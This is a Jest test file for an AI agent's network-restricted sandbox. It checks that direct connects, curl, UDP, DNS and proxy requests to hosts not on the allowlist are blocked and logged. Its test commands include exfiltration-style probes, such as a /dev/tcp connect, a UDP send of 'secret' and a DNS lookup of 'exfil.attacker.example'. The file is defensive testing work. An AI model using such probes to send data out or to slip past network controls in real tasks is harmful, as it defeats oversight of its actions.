/**
 * A real sandbox with `network: restricted` (as root): each run gets a network namespace with
 * only loopback; the egress proxy is its one way out. The attacks run for real against
 * servers on the runner's loopback, and a control run with the network open shows the same
 * commands do reach them.
 */
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createSandbox } from '../../src/isolation/sandbox.js';
import type { Sandbox } from '../../src/isolation/types.js';
import { findTool } from '../../src/isolation/privileged.js';
import { parseAllowedHosts } from '../../src/network/allowlist.js';
import { probeNetworkTools } from '../../src/network/gate.js';
import { describeWith } from '../../test-support/privileges.js';
import { retireAgentUser } from '../security/attack-kit.js';

const describe = describeWith('root');

/** An HTTP server on the runner's loopback that counts what reached it. */
async function countingServer(): Promise<{ server: Server; port: number; hits: () => number }> {
  let hits = 0;
  const server = createServer((_req, res) => {
    hits++;
    res.end('reached\n');
  });
  server.on('connection', () => hits++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  return { server, port, hits: () => hits };
}

/** Runs a script on the agent's side (asynchronously: the servers and the proxy live here). */
function runAs(sandbox: Sandbox, script: string): Promise<string> {
  const wrapped = sandbox.wrap('sh', ['-c', script]);
  return new Promise((resolve) => {
    execFile(
      wrapped.command,
      wrapped.args,
      { env: { PATH: process.env.PATH }, timeout: 30_000, killSignal: 'SIGKILL' },
      (_error, stdout, stderr) => resolve(`${stdout}${stderr}`),
    );
  });
}

describe('a restricted network (as root)', () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'ralph-net-test-')));
  const workspace = join(root, 'repo');
  let target: Awaited<ReturnType<typeof countingServer>>;
  let allowed: Awaited<ReturnType<typeof countingServer>>;
  let restricted: Sandbox;
  let open: Sandbox;
  const connect = (port: number): string =>
    `node -e "require('net').connect(${port},'127.0.0.1').on('connect',()=>{console.log('CONNECTED');process.exit(0)}).on('error',e=>{console.log(e.code);process.exit(1)})"`;

  beforeAll(async () => {
    mkdirSync(join(workspace, '.git'), { recursive: true });
    target = await countingServer();
    allowed = await countingServer();
    restricted = (
      await createSandbox({
        mode: 'required',
        workspace,
        network: {
          mode: 'restricted',
          allowedHosts: parseAllowedHosts(`127.0.0.1:${allowed.port}`),
        },
      })
    ).sandbox;
  });
  afterAll(async () => {
    await restricted?.dispose();
    await open?.dispose();
    if (restricted?.user) retireAgentUser(restricted.user.name);
    target.server.close();
    allowed.server.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('the control: with the network open the same commands reach the server', async () => {
    open = (await createSandbox({ mode: 'required', workspace })).sandbox;
    const out = await runAs(
      open,
      `${connect(target.port)}; curl -sS -m 5 http://127.0.0.1:${target.port}/`,
    );
    expect(out).toContain('CONNECTED');
    expect(out).toContain('reached');
    expect(target.hits()).toBeGreaterThan(0);
    await open.dispose();
  });

  it('a raw connect and a curl to an undeclared port reach nothing, and are recorded', async () => {
    const before = target.hits();
    const out = await runAs(
      restricted,
      `${connect(target.port)}; curl -sS -m 5 http://127.0.0.1:${target.port}/; echo "curl=$?"; bash -c 'echo x > /dev/tcp/8.8.8.8/53'; echo "devtcp=$?"`,
    );
    expect(out).toContain('ECONNREFUSED');
    expect(out).toContain('curl=7');
    expect(out).toContain('devtcp=1');
    expect(target.hits()).toBe(before);
    expect(await restricted.blockedEgress!()).toEqual(
      expect.arrayContaining([
        { destination: `127.0.0.1:${target.port}`, tries: 2, via: 'direct' },
        { destination: '8.8.8.8:53', tries: 1, via: 'direct' },
      ]),
    );
  });

  it('a datagram and a DNS lookup reach nothing, and are recorded (the name looked up too)', async () => {
    const out = await runAs(
      restricted,
      [
        `node -e "const d=require('dgram').createSocket('udp4');d.on('error',e=>{console.log('UDP '+e.code);process.exit(0)});d.send('secret',5353,'192.0.2.7',()=>setTimeout(()=>process.exit(0),300))"`,
        `node -e "const r=new (require('dns').Resolver)();r.setServers(['198.51.100.53']);r.resolve4('exfil.attacker.example',e=>console.log('DNS '+(e&&e.code)))"`,
      ].join('; '),
    );
    expect(out).toMatch(/DNS (ECONNREFUSED|ETIMEOUT)/);
    const blocked = await restricted.blockedEgress!();
    expect(blocked).toContainEqual({ destination: '192.0.2.7:5353', tries: 1, via: 'udp' });
    expect(blocked).toContainEqual(
      expect.objectContaining({ destination: 'exfil.attacker.example', via: 'dns' }),
    );
    expect(restricted.warning).toBeUndefined();
  });

  it('the proxy refuses an undeclared host with 403 and counts it; an allowed one is reached', async () => {
    const before = allowed.hits();
    const out = await runAs(
      restricted,
      [
        'curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" http://example.invalid/',
        'curl -sS -m 5 https://example.invalid/ ; echo "https=$?"',
        `curl -sS -m 5 --noproxy '' http://127.0.0.1:${allowed.port}/`,
        `curl -sS -m 5 -p --noproxy '' http://127.0.0.1:${allowed.port}/`,
      ].join('; '),
    );
    expect(out).toContain('403');
    expect(out).toContain('https=56');
    expect(out.match(/reached/g)).toHaveLength(2);
    expect(allowed.hits()).toBeGreaterThan(before);
    const blocked = await restricted.blockedEgress!();
    expect(blocked).toEqual(
      expect.arrayContaining([
        {
          destination: 'example.invalid:80',
          tries: 1,
          via: 'proxy',
          reason: 'not in allowed-hosts',
        },
        {
          destination: 'example.invalid:443',
          tries: 1,
          via: 'proxy',
          reason: 'not in allowed-hosts',
        },
      ]),
    );
  });

  it('without a recorder (no perl) the namespace still blocks, and the warning says tries are not listed', async () => {
    const made = await createSandbox({
      mode: 'required',
      workspace,
      network: { mode: 'restricted', allowedHosts: [] },
      networkProbe: (privilege) =>
        probeNetworkTools(privilege, undefined, (name) =>
          name === 'perl' ? undefined : findTool(name),
        ),
    });
    try {
      const before = target.hits();
      const out = await runAs(made.sandbox, `${connect(target.port)}`);
      expect(out).toContain('ECONNREFUSED');
      expect(target.hits()).toBe(before);
      expect(await made.sandbox.blockedEgress!()).toEqual([]);
      expect(made.warning).toBe(
        "The agent's network is restricted, but its direct tries (connects, datagrams and DNS lookups that bypass the proxy) are not recorded here: perl is not installed. They are still blocked; only the tries through the egress proxy are listed.",
      );
    } finally {
      await made.sandbox.dispose();
    }
  });

  it("the agent's own loopback servers still work", async () => {
    const out = await runAs(
      restricted,
      `node -e "const s=require('http').createServer((q,r)=>r.end('own\\n')).listen(4567,'127.0.0.1',()=>require('http').get('http://127.0.0.1:4567',r=>r.on('data',d=>{process.stdout.write(d);process.exit(0)})))"`,
    );
    expect(out).toContain('own');
  });
});
